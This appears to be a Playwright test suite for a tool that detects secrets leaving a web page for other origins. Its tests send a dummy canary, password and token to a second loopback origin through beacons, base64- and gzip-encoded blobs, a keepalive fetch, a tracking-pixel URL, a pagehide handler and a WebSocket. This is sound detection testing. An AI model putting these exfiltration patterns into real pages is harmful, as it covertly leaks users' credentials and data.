import { expect, test as base } from '@playwright/test';
import type { OtherOriginsEvidence } from '../../../checks/insecure-storage/other-origins-receive-nothing.ts';
import { departuresIn } from '../../../fixtures/browser/departures.ts';
import { leave } from '../../../fixtures/browser/sent-elsewhere.ts';
import { Costs } from '../../../fixtures/costs.ts';
import { Vault } from '../../../fixtures/redaction/vault.ts';
import { Patience } from '../../../fixtures/replay/patience.ts';
import { Replayer } from '../../../fixtures/replay/replayer.ts';
import { originOf } from '../../../fixtures/traffic/exchange.ts';
import { TrafficTap } from '../../../fixtures/traffic/tap.ts';
import { type Lab, startLab } from './lab.ts';

const CANARY = 'kxq7v2m9d4t8w1z5b3c6';
const PASSWORD = 'Wr0ng horse & battery';
const TOKEN = 'aB3xYz90-QwErTy.Uiop_77';

interface Fixtures {
  tap: TrafficTap;
  /** The lab by its other name on loopback: another origin. */
  elsewhere: string;
  /** What has left for other origins until now; the person may have been asked for her password at one. */
  departed: (signInOrigin?: string) => OtherOriginsEvidence;
}

const test = base.extend<Fixtures, { lab: Lab }>({
  lab: [
    async ({}, use) => {
      const lab = await startLab();
      await use(lab);
      await lab.close();
    },
    { scope: 'worker' },
  ],
  elsewhere: async ({ lab }, use) => use(lab.origin.replace('127.0.0.1', 'localhost')),
  tap: async ({ context, page, lab }, use) => {
    const tap = new TrafficTap(context, new Vault());
    await tap.watch(page);
    await page.goto(lab.origin);
    await page.evaluate((text) => fetch('/say', { method: 'POST', body: text }), CANARY);
    await use(tap);
  },
  departed: async ({ tap, lab }, use) => {
    const costs = new Costs();
    const replayer = new Replayer([lab.origin], new Vault(), costs, new Patience(costs));
    await use((signInOrigin) =>
      departuresIn(tap.exchanges, {
        canaries: [CANARY],
        others: [
          { what: 'credential', which: 'header authorization', values: [TOKEN] },
          { what: 'password', values: [PASSWORD] },
        ],
        ...(signInOrigin === undefined ? {} : { signInOrigin }),
        isHome: (exchange) => originOf(exchange) === lab.origin,
        host: '127.0.0.1',
        record: (label, exchange) => {
          const [record] = replayer.recorded(label, exchange, CANARY).exchanges;
          if (!record) throw new Error('nothing was recorded');
          return record;
        },
      }),
    );
  },
});

/** A busy machine tells late. */
const ARRIVES = { timeout: 20_000 };

/** What can be said of the departures in a row: what had it sent, what it was, and through which encodings. */
const seen = ({ departures }: OtherOriginsEvidence): string[] =>
  departures.map(({ by, what, part, encodings }) => [by, what, part, ...encodings].join(' | '));

test('a beacon’s text is seen', { tag: '@tap' }, async ({ page, elsewhere, departed }) => {
  await page.evaluate(([to, text]) => navigator.sendBeacon(`${to}/capture`, text), [
    elsewhere,
    `said: ${CANARY}`,
  ] as const);
  await expect.poll(() => seen(departed()), ARRIVES).toEqual(['ping | conversation | the body']);
  expect(departed().seenAtHome).toBeDefined();
});

test(
  'beacons of blobs are seen, several to one address, through base64 and gzip',
  { tag: '@tap' },
  async ({ page, elsewhere, departed }) => {
    await page.evaluate(
      async ([to, canary, token]) => {
        const address = `${to}/capture`;
        navigator.sendBeacon(address, new Blob(['nothing yet'], { type: 'text/plain' }));
        navigator.sendBeacon(address, new Blob([btoa(JSON.stringify({ canary }))]));
        const piped = new Blob([JSON.stringify({ token })])
          .stream()
          .pipeThrough(new CompressionStream('gzip'));
        navigator.sendBeacon(address, await new Response(piped).blob());
      },
      [elsewhere, CANARY, TOKEN] as const,
    );
    await expect
      .poll(() => seen(departed()), ARRIVES)
      .toEqual(['ping | conversation | the body | base64', 'ping | credential | the body | gzip']);
    const { unread, contacted } = departed();
    expect(unread).toEqual([]);
    expect(contacted).toEqual([{ origin: elsewhere, requests: 3 }]);
    // What was sent is left out of the report: the token is not recognised there when it is encoded.
    expect(JSON.stringify(departed())).not.toContain(TOKEN);
  },
);

test(
  'requests that outlive their page, pictures and addresses are seen',
  { tag: '@tap' },
  async ({ page, elsewhere, departed }) => {
    await page.evaluate(
      ([to, canary, token]) => {
        const body = JSON.stringify({ canary });
        void fetch(`${to}/flush`, { method: 'POST', mode: 'no-cors', keepalive: true, body });
        new Image().src = `${to}/pixel.gif?t=${btoa(token)}`;
      },
      [elsewhere, CANARY, TOKEN] as const,
    );
    await expect
      .poll(() => seen(departed()).toSorted(), ARRIVES)
      .toEqual(['fetch | conversation | the body', 'image | credential | the address | base64']);
  },
);

test(
  'what a page keeps until it is left is seen',
  { tag: '@tap' },
  async ({ page, tap, elsewhere, departed }) => {
    await page.evaluate(
      ([to, canary]) => {
        addEventListener('pagehide', () => navigator.sendBeacon(`${to}/flush`, new Blob([canary])));
      },
      [elsewhere, CANARY] as const,
    );
    await leave({ page, tap, settle: () => tap.settled() });
    await expect.poll(() => seen(departed()), ARRIVES).toEqual(['ping | conversation | the body']);
  },
);

test(
  'what a page may not send, because the other origin gives no leave, has left all the same',
  { tag: '@tap' },
  async ({ page, elsewhere, departed }) => {
    await page.evaluate(
      async ([to, canary]) => {
        await fetch(`${to}/capture`, { method: 'POST', body: canary }).catch(() => undefined);
      },
      [elsewhere, CANARY] as const,
    );
    await expect.poll(() => seen(departed()), ARRIVES).toEqual(['fetch | conversation | the body']);
  },
);

test(
  'messages over a WebSocket to another origin are seen',
  { tag: '@tap' },
  async ({ page, elsewhere, departed }) => {
    await page.evaluate(
      ([to, canary]) => {
        const socket = new WebSocket(`${to.replace('http', 'ws')}/socket`);
        socket.onopen = () => socket.send(JSON.stringify({ canary }));
      },
      [elsewhere, CANARY] as const,
    );
    await expect
      .poll(() => seen(departed()), ARRIVES)
      .toEqual(['websocket | conversation | its messages']);
    expect(departed().contacted).toEqual([{ origin: elsewhere, requests: 1 }]);
  },
);

test(
  'an origin that hears nothing private is named as contacted only',
  { tag: '@tap' },
  async ({ page, elsewhere, departed }) => {
    await page.evaluate((to) => navigator.sendBeacon(`${to}/capture`, 'page viewed'), elsewhere);
    await expect
      .poll(() => departed().contacted, ARRIVES)
      .toEqual([{ origin: elsewhere, requests: 1 }]);
    expect(departed()).toMatchObject({ departures: [], unread: [] });
  },
);

test(
  'a password is expected where the person is asked for it, and nowhere else',
  { tag: '@tap' },
  async ({ page, elsewhere, departed }) => {
    await page.evaluate(([to, text]) => navigator.sendBeacon(`${to}/capture`, text), [
      elsewhere,
      PASSWORD,
    ] as const);
    await expect.poll(() => seen(departed()), ARRIVES).toEqual(['ping | password | the body']);
    expect(departed().departures.map(({ askedThere }) => askedThere)).toEqual([false]);
    expect(departed(elsewhere).departures.map(({ askedThere }) => askedThere)).toEqual([true]);
  },
);
